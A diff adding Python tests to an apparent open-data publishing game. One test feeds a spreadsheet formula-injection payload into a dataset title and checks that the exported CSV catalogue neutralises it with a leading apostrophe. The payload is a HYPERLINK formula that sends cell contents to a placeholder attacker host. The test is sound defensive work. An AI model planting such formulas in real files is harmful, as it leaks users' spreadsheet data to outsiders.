@@ -98,6 +98,31 @@ def test_the_reference_metadata_earn_full_marks_and_write_the_portal(scenario, t
     assert s.proceed() == "questions"  # nothing went wrong: the consequence steps are skipped
 
 
+def test_a_formula_title_is_shown_as_text_in_the_catalogue_which_still_passes_the_scdl_schema(scenario, tmp_path):
+    import subprocess
+    import sys
+
+    from game.storage.csvfile import read_csv
+
+    s, _rec, portal = at_publish(scenario, tmp_path)
+    meta, dropped = reference(s)
+    s.publish(replace(meta, title='=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")',
+                      description="+SOMME(1;2) puis -1 @cmd"), dropped)
+    catalogue = Path(portal.entries("Camille")[0]["path"]).parent / "catalogue.csv"
+    table = read_csv(catalogue).table
+    row = dict(zip(table.header, next(iter(table.rows())), strict=True))
+    # Excel and LibreOffice show a cell starting with « ' » as text: the formula never runs
+    assert row["TITRE"] == '\'=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")'
+    assert row["DESCRIPTION"] == "'+SOMME(1;2) puis -1 @cmd"
+    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
+    report = validate(table, load_schema("scdl/catalogue"))
+    assert report.error_count == 0, [e.message for e in report.errors]
+    root = Path(__file__).resolve().parents[2]
+    r = subprocess.run([sys.executable, "-m", "game", "validate", "--schema", "scdl/catalogue", str(catalogue)],
+                       cwd=root, capture_output=True, text=True, timeout=60)
+    assert r.returncode == 0 and "✔ Le fichier est valide." in r.stdout, r.stdout + r.stderr
+
+
 def test_publishing_personal_data_leads_to_its_consequence(scenario, tmp_path):
     s, rec, portal = at_publish(scenario, tmp_path)
     meta, _dropped = reference(s)
@@ -160,3 +185,17 @@ def test_check_refuses_reference_metadata_that_miss_full_marks(tmp_path):
     assert "ne nomme pas « où »" in messages
     assert "DECLARANT_COURRIEL" in messages
     assert all(p.line for p in loaded.problems)  # located in the file
+
+
+def test_a_resource_file_gone_missing_is_said_in_french_and_the_portal_is_untouched(tmp_path):
+    from game.core.table import Table
+    from game.play.services import ServiceError
+
+    portal = Portal(tmp_path / "portail")
+    publisher = PortalPublisher(portal, tmp_path / "data")
+    with pytest.raises(ServiceError) as raised:
+        publisher.publish("Camille", "jeu", table=Table.from_rows(["a"], [["1"]]), metadata={}, summary={},
+                          catalogue_header=["ID"], catalogue_row={"ID": "jeu"}, extra_files={"notice.pdf": "notice.pdf"})
+    assert raised.value.message.format_source() == ("Le portail n'a pas pu être écrit (fichier ou dossier introuvable). "
+                                                    "Votre brouillon est conservé.")
+    assert portal.entries("Camille") == []
